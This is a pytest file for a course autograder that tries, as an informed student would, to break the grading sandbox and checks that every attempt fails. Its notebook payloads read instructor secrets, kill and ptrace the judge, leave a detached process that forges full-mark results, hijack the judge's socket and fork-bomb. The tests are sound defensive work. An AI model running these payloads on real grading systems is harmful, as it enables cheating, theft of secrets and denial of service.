"""An informed student's attacks on the grading itself, through both paths and both sandboxes.

Each attack notebook is lab 3's solution with a conv2d_forward that raises (q4 is worth 0, so
the honest score is 36/45) and, before it, cells that do what a student who read the zip and
dllab_runner.py would try: read and write the grading machine's files, connect to a server,
kill or trace the judge, leave a detached process that rewrites the results once the judge has
written them, and a fork bomb. Every attack that succeeded would show: a mark gained, the
instructor's secret in what the student reads, a file written, a connection accepted, a process
left alive, no result at all. Graded through the zip as Gradescope runs it (root, /autograder
laid out, its run_autograder) and through `dllab grade`, under bubblewrap and under an
unprivileged user alone (Gradescope's containers may refuse namespaces).
"""

import csv
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from autograder.judge import isolation
from autograder.grade import grade_batch
from autograder.paths import ROOT
from harness import run_like_gradescope

LAB = "lab3_cnn_numpy"
LIMITS = {"cell_timeout": 20, "timeout": 90}
HONEST = 36  # the solution with a conv2d_forward that raises: q4's 9 points lost

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the gallery runs the graders as root, as "
                                "Gradescope and CI do (a user id of the grading's own needs root)")

# What the survivor does, for a minute after it was left behind: rewrite every result it can
# find with full marks, the way a forged results.json reached 45/45 before.
SURVIVOR = r'''
import glob, json, sys, time
end = time.time() + 60
while time.time() < end:
    for pattern in json.loads(sys.argv[1]):
        for path in glob.glob(pattern):
            try:
                open(path, "w").write(json.dumps({"score": 45, "tests": [], "total": 45, "status": "graded"}))
            except OSError:
                pass
    time.sleep(0.2)
'''

ATTACKS = r'''
import ctypes, json, os, signal, socket, subprocess, sys
_seen = []
for _path in {secrets!r}:  # the instructor's files, and the hidden answers of other folders
    try:
        _seen.append(open(_path).read()[:200])
    except Exception as _e:
        _seen.append(type(_e).__name__)
try:
    open({canary!r}, "w").write("written by the student")
    _seen.append("wrote the canary")
except Exception as _e:
    _seen.append(type(_e).__name__)
try:
    _s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _s.sendall(b"leak")
    _s.close()
    _seen.append("connected")
except Exception as _e:
    _seen.append(type(_e).__name__)
_libc = ctypes.CDLL(None)
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        _cmd = open(f"/proc/{{_pid}}/cmdline", "rb").read()
    except OSError:
        continue
    if (b"dllab_runner.py" in _cmd and b"_otter" not in _cmd) or b"pytest" in _cmd:
        if _libc.ptrace(16, int(_pid), 0, 0) == 0:  # PTRACE_ATTACH
            _seen.append(f"traced {{_pid}}")
        try:
            os.kill(int(_pid), signal.SIGKILL)
            _seen.append(f"killed {{_pid}}")
        except Exception as _e:
            _seen.append(type(_e).__name__)
# a detached grandchild in a session of its own
subprocess.Popen([sys.executable, "-c",
                  "import subprocess, sys; "
                  "subprocess.Popen([sys.executable, '-c', sys.argv[1], sys.argv[2], sys.argv[3]])",
                  {survivor!r}, json.dumps({targets!r}), {marker!r}], start_new_session=True)
'''

RAISING_CONV = '''
def conv2d_forward(X, W, b, stride=1, pad=0):
    raise ValueError("what the attacks saw: " + " | ".join(_seen))
'''

FORK_BOMB = r'''
import subprocess, sys
_bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
subprocess.Popen([sys.executable, "-c", _bomb], start_new_session=True)
'''


def _solution(lab):
    return nbformat.read(lab.dist(lab.out_root) / "solution" / f"{LAB}.ipynb", as_version=4)


def _attack_notebook(lab, attack: str) -> bytes:
    nb = _solution(lab)
    cell = next(c for c in nb.cells if c.cell_type == "code" and "def conv2d_forward(" in c.source)
    cell.source = attack + "\n" + cell.source + "\n" + RAISING_CONV
    return nbformat.writes(nb).encode()


class Listener:
    """A TCP server on this machine that counts the connections it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port, self.accepted, self._stop = self.sock.getsockname()[1], 0, False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
                self.accepted += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self._stop = True
        self.sock.close()


def _alive_with(marker: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                pids.append(int(entry.name))
        except OSError:
            pass
    return pids


@pytest.fixture(scope="module")
def lab(built):
    return built[LAB]


@pytest.fixture
def stage(tmp_path):
    """The instructor's side of the machine: a secret, a place a student must not write, a server."""
    secret = tmp_path / "instructor" / "grades-secret.txt"
    secret.parent.mkdir()
    token = f"SECRET-{uuid.uuid4().hex}"
    secret.write_text(token)
    listener = Listener()
    yield {"secret": secret, "token": token, "canary": tmp_path / "instructor" / "canary.txt",
           "listener": listener, "marker": f"SURVIVOR-{uuid.uuid4().hex}"}
    listener.close()


def _attack(lab, stage, targets):
    solution = lab.dist(lab.out_root) / "solution" / f"{LAB}.ipynb"
    return _attack_notebook(lab, ATTACKS.format(
        secrets=[str(stage["secret"]), str(ROOT / "solutions" / f"{LAB}.py"), str(solution)],
        canary=str(stage["canary"]), port=stage["listener"].port, survivor=SURVIVOR,
        targets=targets, marker=stage["marker"]))


def _assert_nothing_escaped(stage, texts: list[str], kind: str):
    # the course repository is readable by every user of an instructor's machine unless made
    # otherwise: only bubblewrap hides it (docs/integrity.md); Gradescope's container has none
    reference = (ROOT / "solutions" / f"{LAB}.py").read_text()[:200]
    for text in texts:
        assert stage["token"] not in text, "the instructor's secret reached the student"
        if kind == isolation.BWRAP:
            assert reference not in text and json.dumps(reference)[1:-1] not in text
        assert "wrote the canary" not in text and "traced" not in text and "killed" not in text, text
    assert not stage["canary"].exists(), "the notebook wrote a file of the grading machine"
    if kind == isolation.BWRAP:  # an unprivileged user alone has the machine's network
        assert stage["listener"].accepted == 0, "the notebook reached a server"
    time.sleep(2)
    assert _alive_with(stage["marker"]) == [], "a process of the notebook outlived the grading"


@pytest.mark.parametrize("mechanism", ["bwrap", "user"])
def test_attacks_through_the_zip_as_gradescope_runs_it(lab, stage, tmp_path, mechanism):
    root = tmp_path / "gradescope" / "autograder"
    targets = [str(root / "results" / "results.json"), "/autograder/results/results.json"]
    env = dict(os.environ, DLLAB_ISOLATION=mechanism)
    report = run_like_gradescope(lab.zip_path(lab.out_root), {f"{LAB}.ipynb": _attack(lab, stage, targets)},
                                 root, LIMITS, env=env)
    assert report["score"] == HONEST, report["output"]
    q4 = [t for t in report["tests"] if t["name"].startswith("q4") and t.get("output")]
    assert q4 and "what the attacks saw" in q4[0]["output"], "the attack cell did not run"
    kind = isolation.BWRAP if mechanism == "bwrap" else isolation.USER
    _assert_nothing_escaped(stage, [json.dumps(report)], kind)
    # what the judge wrote is still what it wrote, after the survivor's minute began
    assert json.loads((root / "results" / "results.json").read_text()) == report


@pytest.mark.parametrize("mechanism", ["bwrap", "user"])
def test_attacks_through_grade(lab, stage, tmp_path, monkeypatch, mechanism):
    out = tmp_path / "graded"
    targets = [str(out / "results" / "*.json"), str(out / "gradebook.csv"), "/tmp/dllab-grade-*/result.json"]
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "mallory.ipynb").write_bytes(_attack(lab, stage, targets))
    monkeypatch.setenv("DLLAB_ISOLATION", mechanism)
    if mechanism == "user":
        isolation.make_python_reachable()  # as an instructor grading as root without bubblewrap would
    grade_batch(lab, [tmp_path / "subs"], out, zip_path=lab.zip_path(lab.out_root), progress=False,
                timeout=LIMITS["timeout"], cell_timeout=LIMITS["cell_timeout"])
    result = json.loads((out / "results" / "mallory.json").read_text())
    assert result["total"] == HONEST and result["status"] == "graded", result
    kind = isolation.BWRAP if mechanism == "bwrap" else isolation.USER
    assert result["isolation"] == kind
    texts = [(out / "results" / "mallory.json").read_text(), (out / "feedback" / "mallory.md").read_text(),
             (out / "gradebook.csv").read_text()]
    assert "what the attacks saw" in texts[1]
    _assert_nothing_escaped(stage, texts, kind)
    assert json.loads((out / "results" / "mallory.json").read_text()) == result


@pytest.mark.parametrize("mechanism", ["bwrap", "user"])
def test_a_fork_bomb_costs_only_its_author(lab, tmp_path, mechanism):
    """The bomb stops at the grading user's process limit, the judge still writes a result,
    and nothing of it is left once the grading ends."""
    root = tmp_path / "autograder"
    nb = _solution(lab)
    submit = next(i for i, c in enumerate(nb.cells) if c.cell_type == "markdown" and c.source.startswith("## Submit"))
    nb.cells.insert(submit, nbformat.v4.new_code_cell(FORK_BOMB))
    env = dict(os.environ, DLLAB_ISOLATION=mechanism)
    before = len([p for p in os.listdir("/proc") if p.isdigit()])
    report = run_like_gradescope(lab.zip_path(lab.out_root), {f"{LAB}.ipynb": nbformat.writes(nb).encode()},
                                 root, {"cell_timeout": 20, "timeout": 60}, env=env)
    assert 0 <= report["score"] <= 45 and report["tests"], report["output"]
    time.sleep(1)
    after = len([p for p in os.listdir("/proc") if p.isdigit()])
    assert after <= before + 5, f"{after - before} processes more than before the grading"


def test_without_a_sandbox_grade_refuses_unless_asked(lab, tmp_path):
    (tmp_path / "alice.ipynb").write_text(nbformat.writes(_solution(lab)))
    env = dict(os.environ, DLLAB_ISOLATION="bwrap", PATH="/nonexistent")  # bubblewrap not found
    args = [sys.executable, "-m", "autograder", "grade", LAB, str(tmp_path / "alice.ipynb"), "--out",
            str(tmp_path / "out"), "--autograder", str(lab.zip_path(lab.out_root))]
    proc = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 2 and "bubblewrap cannot make a sandbox here" in proc.stderr, proc.stderr
    assert "--no-isolation" in proc.stderr and not (tmp_path / "out" / "gradebook.csv").exists()

    proc = subprocess.run(args + ["--no-isolation"], cwd=ROOT, capture_output=True, text=True,
                          env=dict(os.environ), timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "isolation: none (--no-isolation)" in proc.stderr
    row = next(csv.DictReader(open(tmp_path / "out" / "gradebook.csv")))
    assert row["total"] == "45" and row["reason"].startswith("Not isolated: graded with --no-isolation")

    # rows that are all current need no sandbox: collecting them (a Kubernetes volume) just works
    proc = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 0 and "1 already graded and unchanged" in proc.stderr, proc.stderr
    # a changed submission needs one: refused, and its earlier result is kept as it was
    result = (tmp_path / "out" / "results" / "alice.json").read_text()
    (tmp_path / "alice.ipynb").write_text(nbformat.writes(_solution(lab)) + "\n")
    proc = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 2 and "bubblewrap cannot make a sandbox here" in proc.stderr, proc.stderr
    assert (tmp_path / "out" / "results" / "alice.json").read_text() == result


LOOKUP = '''
import glob, pickle, numpy as _np
_FOUND = []
for _pattern in ("**/dllab_cases_*", "../**/dllab_cases_*", "/autograder/**/dllab_cases_*",
                 "/tmp/dllab-*/**/dllab_cases_*"):
    try:
        _FOUND += glob.glob(_pattern, recursive=True)
    except OSError:
        pass
def conv2d_forward(X, W, b, stride=1, pad=0):
    for path in _FOUND:
        try:
            cases = pickle.load(open(path, "rb"))
        except Exception:
            continue
        for key in ("conv2d_forward/batch_channels", "conv2d_forward/padding", "conv2d_forward/stride_padding"):
            for c in cases.get(key, []):
                if c["args"][0].shape == _np.shape(X) and _np.array_equal(c["args"][0], X):
                    return c["expected"]
    return _right(X, W[::-1, ::-1], b, stride, pad)
'''


@pytest.mark.parametrize("mechanism", ["bwrap", "user"])
def test_hidden_answers_cannot_be_looked_up(lab, tmp_path, mechanism):
    """The lookup of issue 19: conv2d_forward answers from any hidden cases file it can read."""
    nb = _solution(lab)
    cell = next(c for c in nb.cells if c.cell_type == "code" and "def conv2d_forward(" in c.source)
    cell.source = cell.source.replace("def conv2d_forward(", "def _right(") + "\n" + LOOKUP
    report = run_like_gradescope(lab.zip_path(lab.out_root), {f"{LAB}.ipynb": nbformat.writes(nb).encode()},
                                 tmp_path / "autograder", LIMITS, env=dict(os.environ, DLLAB_ISOLATION=mechanism))
    gained = [t for t in report["tests"] if t["name"].startswith("q4") and t["status"] == "passed"
              and t["name"].endswith("(hidden)")]
    assert gained == [], [t["name"] for t in gained]


@pytest.mark.parametrize("mechanism", ["bwrap", "user"])
def test_verdicts_forged_on_the_students_side_gain_nothing(lab, tmp_path, mechanism):
    """A process of the student's writes full-marks verdicts wherever verdicts were once
    written on its side, and answers the judge in the kernel's place if it can."""
    forger = r'''
import subprocess, sys
_forge = """
import glob, json, socket, struct, threading, time
end = time.time() + 300

def hijack():
    # answer the judge in the kernel's place: every function defined, every call a zero
    while time.time() < end:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect("../dllab.sock")
            break
        except OSError:
            time.sleep(0.01)
    else:
        return
    while True:
        head = s.recv(8)
        if len(head) < 8:
            return
        n, = struct.unpack(">Q", head)
        data = b""
        while len(data) < n:
            data += s.recv(n - len(data))
        request = json.loads(data)
        if request["op"] == "names":
            answer = {name: {"$function": True} for name in request["names"]}
        else:
            answer = {"out": 0}
        body = json.dumps(answer).encode()
        s.sendall(struct.pack(">Q", len(body)) + body)

threading.Thread(target=hijack, daemon=True).start()
while time.time() < end:
    for path in glob.glob("/tmp/dllab-run-*/autograder/results") + glob.glob("../results"):
        verdicts = {f"q{i}": [{"name": "t", "hidden": False, "passed": True, "points": 99}] for i in range(1, 12)}
        try:
            open(path + "/dllab-cases.json", "w").write(json.dumps(verdicts))
        except OSError:
            pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", _forge], start_new_session=True)
'''
    report = run_like_gradescope(lab.zip_path(lab.out_root), {f"{LAB}.ipynb": _attack_notebook(lab, forger)},
                                 tmp_path / "autograder", LIMITS, env=dict(os.environ, DLLAB_ISOLATION=mechanism))
    assert report["score"] <= HONEST, report["score"]
